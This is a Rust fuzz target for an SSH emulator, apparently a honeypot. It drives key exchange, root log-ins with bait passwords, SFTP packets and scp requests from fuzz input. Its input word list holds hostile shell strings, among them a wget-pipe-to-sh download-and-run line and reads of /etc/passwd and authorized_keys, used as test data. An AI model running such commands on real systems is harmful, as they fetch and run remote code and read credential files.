//! The SSH emulator behind the encryption: a client makes keys with it, and the input says
//! what it sends then, from log-ins to the packets of SFTP and the lines of `scp`.
//!
//! The input is read as a list of choices. Any message may also be any bytes.
#![no_main]

#[path = "../../crates/ukai-ssh/examples/client/mod.rs"]
mod client;

use bytes::Bytes;
use client::{Client, string};
use libfuzzer_sys::fuzz_target;
use std::net::SocketAddr;
use std::sync::{Arc, LazyLock};
use ukai_emulators::{Context, Effect, FetchId, Fetched, Open, Session, TimerId, emulator};
use ukai_model::{EventKind, FetchOutcome, Flow, Timestamp, Transport};
use ukai_persona::{Host, Persona};
use ukai_shell::Fs;

/// Messages of one session.
const MESSAGES: usize = 64;

/// Most bytes that a server with its channels' queues has for one message.
const ANSWER_BYTES: usize = 32 << 20;

/// Hosts with the servers that know the client's algorithms, each with a disk that keeps
/// the persona's image in memory, and a password of root's.
static HOSTS: LazyLock<Vec<(Arc<Host>, Fs, &str)>> = LazyLock::new(|| {
    let wanted = [
        ("server-debian", "openssh-9.2p1-debian12", "toor"),
        ("server-debian", "openssh-8.4p1-debian11", "toor"),
        ("router-mips", "dropbear-2022.83", "admin"),
    ];
    let host = |(persona, profile, password): (&str, &str, &'static str)| {
        let mut persona = Persona::clone(Persona::named(persona).expect("a persona"));
        persona.ssh.as_mut().expect("a server").profile = profile.to_owned();
        let host = Arc::new(Arc::new(persona).host([192, 0, 2, 10].into(), [7; 32]));
        emulator("ssh").expect("an emulator").prepare(&host);
        (Arc::clone(&host), Fs::new(&host), password)
    };
    wanted.map(host).into()
});

fuzz_target!(|data: &[u8]| {
    let mut choices = Choices(data);
    let (host, _, password) = &HOSTS[choices.below(HOSTS.len())];
    let flags = choices.byte();
    let compression = match flags & 3 {
        0 => "zlib@openssh.com",
        1 => "zlib",
        _ => "none",
    };
    let mut world = World::new(host, compression);
    let greeting = world.sent_before();
    world.client.receive(&greeting);
    if !world.make_keys() {
        // Dropbear has no compression before the log-in.
        assert!(compression != "none", "keys are made");
        return;
    }
    world.packed = compression == "zlib";
    if flags & 12 != 0 {
        world.log_in(password);
        world.packed = compression != "none";
    }
    if flags & 48 == 16 {
        world.send(&channel_open("session", 0, u32::MAX, 1 << 15));
        world.send(&request(0, "subsystem", "sftp"));
        world.send(&data_message(0, b"\0\0\0\x05\x01\0\0\0\x03"));
    } else if flags & 48 == 32 {
        world.send(&channel_open("session", 0, u32::MAX, 1 << 15));
        let how = ["scp -t /tmp", "scp -rt .", "scp -f /etc/passwd", "scp -rpf /etc", "sh", "cat"];
        world.send(&request(0, "exec", how[choices.below(how.len())]));
    }
    for _ in 0..MESSAGES {
        if choices.0.is_empty() || world.closed {
            break;
        }
        choices.act(&mut world);
    }
    world.end();
});

/// The session and the client.
struct World {
    client: Client,
    session: Box<dyn Session>,
    now: Timestamp,
    effects: Vec<Effect>,
    timers: Vec<(TimerId, Timestamp)>,
    fetches: Vec<FetchId>,
    closed: bool,
    /// Whether payloads go as a stream of zlib's.
    packed: bool,
    header_sent: bool,
    recorded: usize,
}

impl World {
    fn new(host: &Arc<Host>, compression: &'static str) -> Self {
        let local: SocketAddr = ([192, 0, 2, 10], 22).into();
        let peer: SocketAddr = ([198, 51, 100, 7], 4000).into();
        let now = Timestamp::from_secs(1_767_323_045);
        let open = Open {
            flow: Flow::new(Transport::Tcp, peer, local),
            fs: Fs::new(host),
            host: Arc::clone(host),
            seed: 7,
            now,
            tls: false,
            alpn: None,
        };
        Self {
            client: Client::new(7, compression),
            session: emulator("ssh").expect("an emulator").open(open),
            now,
            effects: Vec::new(),
            timers: Vec::new(),
            fetches: Vec::new(),
            closed: false,
            packed: false,
            header_sent: false,
            recorded: 0,
        }
    }

    /// What the server says of itself.
    fn sent_before(&mut self) -> Vec<u8> {
        self.session.on_open(&mut Context { now: self.now, effects: &mut self.effects });
        let mut sent = self.settle();
        if sent.is_empty() {
            self.tick(0);
            sent = self.settle();
        }
        sent
    }

    fn make_keys(&mut self) -> bool {
        let mut client = std::mem::replace(&mut self.client, Client::new(0, "none"));
        let made = client.make_keys(|bytes, answer| {
            let cx = &mut Context { now: self.now, effects: &mut self.effects };
            self.session.on_bytes(cx, bytes);
            answer.extend(self.settle());
        });
        self.client = client;
        made.is_some()
    }

    fn log_in(&mut self, password: &str) {
        let mut service = vec![5];
        string(&mut service, b"ssh-userauth");
        self.send(&service);
        let mut auth = auth_request("root", "password");
        auth.push(0);
        string(&mut auth, password.as_bytes());
        self.send(&auth);
        let mut answers = std::iter::from_fn(|| self.client.payload());
        assert!(answers.any(|payload| payload[0] == 52), "logged in");
    }

    /// Sends a message; its answer is there afterwards.
    fn send(&mut self, payload: &[u8]) {
        let payload = if self.packed { self.stored(payload) } else { payload.to_vec() };
        let packet = self.client.packet(&payload);
        self.bytes(&packet);
    }

    /// A block of zlib's that is stored as it is.
    fn stored(&mut self, payload: &[u8]) -> Vec<u8> {
        let header = !std::mem::replace(&mut self.header_sent, true);
        let mut stream = if header { vec![0x78, 0x01] } else { Vec::new() };
        for block in payload.chunks(usize::from(u16::MAX)) {
            let length = block.len() as u16;
            stream.push(0);
            stream.extend_from_slice(&length.to_le_bytes());
            stream.extend_from_slice(&(!length).to_le_bytes());
            stream.extend_from_slice(block);
        }
        stream
    }

    /// Gives bytes as they are to the server.
    fn bytes(&mut self, bytes: &[u8]) {
        for bytes in bytes.chunks(65_536) {
            if self.closed {
                return;
            }
            let cx = &mut Context { now: self.now, effects: &mut self.effects };
            self.session.on_bytes(cx, bytes);
            let sent = self.settle();
            self.client.receive(&sent);
        }
    }

    /// Lets the timer that is due next fire, or the one behind it.
    fn tick(&mut self, which: usize) {
        if self.timers.is_empty() {
            return;
        }
        self.timers.sort_by_key(|(_, at)| *at);
        let (id, at) = self.timers.remove(which.min(self.timers.len() - 1));
        self.now = self.now.max(at);
        self.session.on_timer(&mut Context { now: self.now, effects: &mut self.effects }, id);
    }

    fn fetched(&mut self, outcome: FetchOutcome, bytes: &[u8]) {
        let Some(id) = self.fetches.pop() else { return };
        let fetched = Fetched {
            outcome,
            bytes: Bytes::copy_from_slice(bytes),
            sha256: None,
            status: Some(200),
            server_ip: None,
            content_type: None,
        };
        let cx = &mut Context { now: self.now, effects: &mut self.effects };
        self.session.on_fetched(cx, id, fetched);
    }

    /// Looks at what the session asked for; gives what it sends.
    fn settle(&mut self) -> Vec<u8> {
        let mut sent = Vec::new();
        for effect in self.effects.drain(..) {
            match effect {
                Effect::Send(bytes) => sent.extend_from_slice(&bytes),
                Effect::Timer { id, at } => {
                    self.timers.retain(|(other, _)| *other != id);
                    self.timers.push((id, at));
                }
                Effect::Fetch { id, url, .. } => {
                    assert!(!url.as_bytes().is_empty(), "a fetch of nothing");
                    self.fetches.push(id);
                }
                Effect::Record(kind) => {
                    assert!(!matches!(kind, EventKind::SessionOpen { .. }), "not its own");
                    self.recorded += 1;
                }
                Effect::Close(_) => self.closed = true,
                _ => {}
            }
        }
        assert!(sent.len() <= ANSWER_BYTES, "{} bytes sent at once", sent.len());
        assert!(self.timers.len() <= 4_096 && self.fetches.len() <= 4_096, "bounded");
        sent
    }

    fn end(&mut self) {
        if !self.closed {
            self.session.on_eof(&mut Context { now: self.now, effects: &mut self.effects });
            let sent = self.settle();
            self.client.receive(&sent);
        }
        // What the server has sent is sound: the client can read it to its end.
        while self.client.payload().is_some() {}
        self.session.on_close(&mut Context { now: self.now, effects: &mut self.effects });
        self.settle();
        assert!(self.recorded <= 65_536, "{} records", self.recorded);
    }
}

fn auth_request(user: &str, method: &str) -> Vec<u8> {
    let mut auth = vec![50];
    for part in [user, "ssh-connection", method] {
        string(&mut auth, part.as_bytes());
    }
    auth
}

fn channel_open(kind: &str, number: u32, window: u32, packet: u32) -> Vec<u8> {
    let mut open = vec![90];
    string(&mut open, kind.as_bytes());
    for number in [number, window, packet] {
        open.extend_from_slice(&number.to_be_bytes());
    }
    open
}

fn request(channel: u32, kind: &str, detail: &str) -> Vec<u8> {
    let mut request = vec![98];
    request.extend_from_slice(&channel.to_be_bytes());
    string(&mut request, kind.as_bytes());
    request.push(1);
    string(&mut request, detail.as_bytes());
    request
}

fn data_message(channel: u32, bytes: &[u8]) -> Vec<u8> {
    let mut data = vec![94];
    data.extend_from_slice(&channel.to_be_bytes());
    string(&mut data, bytes);
    data
}

const USERS: [&str; 6] = ["root", "admin", "debian", "", "nobody", "\u{e9}"];

const METHODS: [&str; 5] = ["none", "password", "keyboard-interactive", "publickey", "hostbased"];

const CHANNELS: [&str; 7] = [
    "session",
    "direct-tcpip",
    "direct-streamlocal@openssh.com",
    "tun@openssh.com",
    "x11",
    "forwarded-tcpip",
    "",
];

const REQUESTS: [&str; 13] = [
    "pty-req",
    "shell",
    "exec",
    "subsystem",
    "env",
    "window-change",
    "signal",
    "break",
    "x11-req",
    "auth-agent-req@openssh.com",
    "eow@openssh.com",
    "keepalive@openssh.com",
    "xon-xoff",
];

const GLOBALS: [&str; 8] = [
    "tcpip-forward",
    "cancel-tcpip-forward",
    "streamlocal-forward@openssh.com",
    "cancel-streamlocal-forward@openssh.com",
    "no-more-sessions@openssh.com",
    "hostkeys-prove-00@openssh.com",
    "keepalive@openssh.com",
    "",
];

const WORDS: [&str; 30] = [
    "sftp",
    "sh",
    "id; uname -a",
    "cat",
    "cat >/tmp/x; sh /tmp/x",
    "scp -t /tmp/x",
    "scp -f /etc/passwd",
    "scp -rf /etc",
    "wget http://192.0.2.1/x -O- | sh",
    "sleep 3; echo a",
    "exit 3",
    "read a; echo $a",
    "/tmp/x",
    "/etc/passwd",
    "/",
    "..",
    "/root/.ssh/authorized_keys",
    "/dev/zero",
    "/proc/self/exe",
    "127.0.0.1",
    "192.0.2.9",
    "localhost",
    "xterm",
    "LANG",
    "INT",
    "TERM",
    "KILL",
    "GET / HTTP/1.1\r\nHost: a\r\n\r\n",
    "C0644 5 x\nhello\0",
    "D0755 0 d\n",
];

const EXTENSIONS: [&str; 11] = [
    "posix-rename@openssh.com",
    "statvfs@openssh.com",
    "fstatvfs@openssh.com",
    "hardlink@openssh.com",
    "fsync@openssh.com",
    "lsetstat@openssh.com",
    "limits@openssh.com",
    "expand-path@openssh.com",
    "copy-data",
    "home-directory",
    "users-groups-by-id@openssh.com",
];

/// The input, as choices; its end is a list of zeros.
struct Choices<'a>(&'a [u8]);

impl Choices<'_> {
    fn byte(&mut self) -> u8 {
        let Some((first, rest)) = self.0.split_first() else { return 0 };
        self.0 = rest;
        *first
    }

    fn below(&mut self, count: usize) -> usize {
        usize::from(self.byte()) % count
    }

    fn pick(&mut self, list: &[&'static str]) -> &'static str {
        list[self.below(list.len())]
    }

    /// So many bytes as the next byte says.
    fn raw(&mut self) -> Vec<u8> {
        let count = usize::from(self.byte()).min(self.0.len());
        let (bytes, rest) = self.0.split_at(count);
        self.0 = rest;
        bytes.to_vec()
    }

    fn text(&mut self) -> Vec<u8> {
        match self.byte() {
            choice @ 0..192 => WORDS[usize::from(choice) % WORDS.len()].into(),
            192..224 => self.raw(),
            choice => vec![b'A'; usize::from(choice - 223) * 1_000],
        }
    }

    /// Mostly small, sometimes extreme.
    fn number(&mut self) -> u32 {
        match self.byte() {
            255 => u32::MAX,
            254 => 1 << 31,
            253 => u32::MAX - 1,
            252 => 1 << 21,
            251 => u32::from_be_bytes([0, self.byte(), self.byte(), self.byte()]),
            small => u32::from(small) % 64,
        }
    }

    fn put_number(&mut self, into: &mut Vec<u8>) {
        let number = self.number();
        into.extend_from_slice(&number.to_be_bytes());
    }

    fn put_text(&mut self, into: &mut Vec<u8>) {
        let text = self.text();
        string(into, &text);
    }

    /// Mostly a channel that is there.
    fn channel(&mut self) -> [u8; 4] {
        let number = match self.byte() {
            small @ 0..224 => u32::from(small & 3),
            _ => self.number(),
        };
        number.to_be_bytes()
    }

    fn act(&mut self, world: &mut World) {
        match self.byte() % 24 {
            0 => {
                let bytes = self.raw();
                world.bytes(&bytes);
            }
            1 => {
                // Whatever it is: a stream of zlib's that is none, where there is one.
                let packet = world.client.packet(&self.raw());
                world.bytes(&packet);
            }
            2 => {
                let payload = self.raw();
                world.send(&payload);
            }
            3 => {
                world.make_keys();
            }
            4..=6 => world.tick(self.below(3)),
            7 => {
                let outcome = match self.below(3) {
                    0 => FetchOutcome::Complete,
                    1 => FetchOutcome::Partial,
                    _ => FetchOutcome::Unreachable,
                };
                let bytes = self.raw();
                world.fetched(outcome, &bytes);
            }
            8 => {
                let payload = self.log_in();
                world.send(&payload);
            }
            9 => {
                let payload = self.global();
                world.send(&payload);
            }
            10 | 11 => {
                let payload = self.open();
                world.send(&payload);
            }
            12..=14 => {
                let payload = self.channel_request();
                world.send(&payload);
            }
            15..=17 => {
                let mut payload = vec![94];
                payload.extend_from_slice(&self.channel());
                let requests = self.sftp();
                string(&mut payload, &requests);
                world.send(&payload);
            }
            18 | 19 => {
                let mut payload = vec![94];
                payload.extend_from_slice(&self.channel());
                self.put_text(&mut payload);
                world.send(&payload);
            }
            20 => {
                let mut payload = vec![95];
                payload.extend_from_slice(&self.channel());
                self.put_number(&mut payload);
                self.put_text(&mut payload);
                world.send(&payload);
            }
            21 => {
                let mut payload = vec![93];
                payload.extend_from_slice(&self.channel());
                self.put_number(&mut payload);
                world.send(&payload);
            }
            22 => {
                let mut payload = vec![96 + self.byte() % 2];
                payload.extend_from_slice(&self.channel());
                world.send(&payload);
            }
            _ => {
                // Answers that nobody asked for, and what is of no channel.
                let kinds = [1, 2, 3, 4, 5, 6, 7, 21, 31, 53, 61, 81, 82, 91, 92, 99, 100, 192];
                let mut payload = vec![kinds[self.below(kinds.len())]];
                payload.extend_from_slice(&self.channel());
                payload.extend(self.raw());
                world.send(&payload);
            }
        }
    }

    fn log_in(&mut self) -> Vec<u8> {
        let mut auth = auth_request(self.pick(&USERS), self.pick(&METHODS));
        match self.below(4) {
            0 => {
                auth.push(self.byte());
                self.put_text(&mut auth);
                self.put_text(&mut auth);
            }
            1 => {
                // A public key, perhaps with a signature.
                auth.push(self.byte() & 1);
                let kinds = ["ssh-ed25519", "ssh-rsa", "rsa-sha2-256", "ecdsa-sha2-nistp256", "x"];
                let kind = self.pick(&kinds);
                string(&mut auth, kind.as_bytes());
                let mut blob = Vec::new();
                string(&mut blob, kind.as_bytes());
                for _ in 0..self.below(4) {
                    let part = self.raw();
                    string(&mut blob, &part);
                }
                string(&mut auth, &blob);
                let mut signature = Vec::new();
                string(&mut signature, kind.as_bytes());
                let part = self.raw();
                string(&mut signature, &part);
                string(&mut auth, &signature);
            }
            2 => {
                // Answers to prompts.
                auth = vec![61];
                self.put_number(&mut auth);
                for _ in 0..self.below(4) {
                    self.put_text(&mut auth);
                }
            }
            _ => auth.extend(self.raw()),
        }
        auth
    }

    fn global(&mut self) -> Vec<u8> {
        let mut global = vec![80];
        string(&mut global, self.pick(&GLOBALS).as_bytes());
        global.push(self.byte() & 1);
        self.put_text(&mut global);
        self.put_number(&mut global);
        global
    }

    fn open(&mut self) -> Vec<u8> {
        let kind = self.pick(&CHANNELS);
        let window = if self.byte() < 128 { 1 << 21 } else { self.number() };
        let packet = if self.byte() < 128 { 1 << 15 } else { self.number() };
        let mut open = channel_open(kind, u32::from(self.byte()), window, packet);
        if kind != "session" {
            self.put_text(&mut open);
            let ports: [u32; 6] = [80, 25, 22, 23, 0, 65_536];
            open.extend_from_slice(&ports[self.below(ports.len())].to_be_bytes());
            self.put_text(&mut open);
            self.put_number(&mut open);
        }
        open
    }

    fn channel_request(&mut self) -> Vec<u8> {
        let mut request = vec![98];
        request.extend_from_slice(&self.channel());
        let kind = self.pick(&REQUESTS);
        string(&mut request, kind.as_bytes());
        request.push(self.byte() & 1);
        match kind {
            "pty-req" => {
                self.put_text(&mut request);
                for _ in 0..4 {
                    self.put_number(&mut request);
                }
                let modes = self.raw();
                string(&mut request, &modes);
            }
            "window-change" => (0..4).for_each(|_| self.put_number(&mut request)),
            "x11-req" => {
                request.push(self.byte());
                self.put_text(&mut request);
                self.put_text(&mut request);
                self.put_number(&mut request);
            }
            "env" => {
                self.put_text(&mut request);
                self.put_text(&mut request);
            }
            "break" => self.put_number(&mut request),
            _ => self.put_text(&mut request),
        }
        request
    }

    /// Requests to an SFTP server, of which the last may be cut.
    fn sftp(&mut self) -> Vec<u8> {
        let mut all = Vec::new();
        for _ in 0..=self.below(4) {
            let kind = match self.byte() {
                choice @ 0..240 => 3 + choice % 18,
                255 => 200,
                choice => choice,
            };
            let mut body = vec![kind];
            self.put_number(&mut body);
            match kind {
                200 => {
                    string(&mut body, self.pick(&EXTENSIONS).as_bytes());
                    for _ in 0..self.below(4) {
                        self.field(&mut body);
                    }
                }
                // Requests that begin with a handle.
                4 | 5 | 6 | 8 | 10 | 12 => {
                    let handle = self.handle();
                    string(&mut body, &handle);
                    for _ in 0..self.below(4) {
                        self.field(&mut body);
                    }
                }
                _ => {
                    self.put_text(&mut body);
                    for _ in 0..self.below(5) {
                        self.field(&mut body);
                    }
                }
            }
            string(&mut all, &body);
        }
        if self.byte() == 255 {
            all.truncate(all.len() / 2);
        }
        all
    }

    fn handle(&mut self) -> Vec<u8> {
        match self.byte() {
            small @ 0..224 => u32::from(small & 3).to_be_bytes().to_vec(),
            _ => self.raw(),
        }
    }

    fn field(&mut self, into: &mut Vec<u8>) {
        match self.below(4) {
            0 => self.put_text(into),
            1 => self.put_number(into),
            2 => {
                self.put_number(into);
                self.put_number(into);
            }
            _ => {
                let handle = self.handle();
                string(into, &handle);
            }
        }
    }
}
